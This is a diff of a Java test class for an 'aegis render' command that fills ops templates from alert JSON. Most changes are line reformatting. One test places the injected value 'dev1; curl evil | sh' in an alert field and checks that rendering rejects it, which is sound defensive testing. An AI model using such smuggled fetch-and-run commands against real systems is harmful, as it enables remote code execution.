@@ -19,7 +19,10 @@ class RenderCommandTest {
 
   private int render(String... args) {
     return new RenderCommand(Renderers.engine())
-        .run(List.of(args), new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8));
+        .run(
+            List.of(args),
+            new PrintStream(out, true, StandardCharsets.UTF_8),
+            new PrintStream(err, true, StandardCharsets.UTF_8));
   }
 
   private static String example(String path) {
@@ -43,8 +46,11 @@ class RenderCommandTest {
   void aMissingVariableIsTheExactRenderErrorAndExitCode1() throws Exception {
     Path alert = dir.resolve("alert.json");
     Files.writeString(
-        alert, "{\"type\": \"NodeHasEmergencyEvent\", \"status\": \"Firing\", \"involvedObject\": {\"kind\": \"Pod\", \"name\": \"p\", \"namespace\": \"n\"}}");
-    int code = render("--template", example("nodehasemergencyevent/ops.yaml"), "--alert", alert.toString());
+        alert,
+        "{\"type\": \"NodeHasEmergencyEvent\", \"status\": \"Firing\", \"involvedObject\": {\"kind\": \"Pod\", \"name\": \"p\", \"namespace\": \"n\"}}");
+    int code =
+        render(
+            "--template", example("nodehasemergencyevent/ops.yaml"), "--alert", alert.toString());
     assertThat(code).isEqualTo(1);
     assertThat(err.toString()).startsWith("render error: ").contains("'node'");
     assertThat(out.toString()).isEmpty();
@@ -57,7 +63,13 @@ class RenderCommandTest {
         alert,
         "{\"type\": \"NodeHasEmergencyEvent\", \"status\": \"Firing\", \"involvedObject\": {\"kind\": \"Node\", \"name\": \"dev1\"},"
             + " \"details\": {\"node\": \"dev1; curl evil | sh\"}}");
-    assertThat(render("--template", example("nodehasemergencyevent/ops.yaml"), "--alert", alert.toString())).isEqualTo(1);
+    assertThat(
+            render(
+                "--template",
+                example("nodehasemergencyevent/ops.yaml"),
+                "--alert",
+                alert.toString()))
+        .isEqualTo(1);
     assertThat(err.toString()).startsWith("render error: ");
   }
 
@@ -81,7 +93,13 @@ class RenderCommandTest {
                 container: {image: busybox, command: [echo, "[=cluster]", "{{.AlertNamespace}}"]}
         """);
     int code =
-        render("--template", template.toString(), "--alert", example("nodehasemergencyevent/alert.json"), "--param", "cluster=c1");
+        render(
+            "--template",
+            template.toString(),
+            "--alert",
+            example("nodehasemergencyevent/alert.json"),
+            "--param",
+            "cluster=c1");
     assertThat(code).as(err.toString()).isZero();
     assertThat(out.toString()).contains("- \"c1\"").contains("- \"monitoring\"");
   }
@@ -93,7 +111,13 @@ class RenderCommandTest {
         template,
         "apiVersion: aegis.io/v1alpha1\nkind: AegisOpsTemplate\nmetadata: {name: a}\nspec: {manifest: x}\n---\n"
             + "apiVersion: aegis.io/v1alpha1\nkind: AegisOpsTemplate\nmetadata: {name: b}\nspec: {manifest: y}\n");
-    assertThat(render("--template", template.toString(), "--alert", example("nodehasemergencyevent/alert.json"))).isEqualTo(1);
+    assertThat(
+            render(
+                "--template",
+                template.toString(),
+                "--alert",
+                example("nodehasemergencyevent/alert.json")))
+        .isEqualTo(1);
     assertThat(err.toString()).contains("several").contains("[a, b]").contains("--template-name");
     assertThat(render("--alert", "x")).isEqualTo(2);
     assertThat(err.toString()).contains("Usage: ./aegis render");
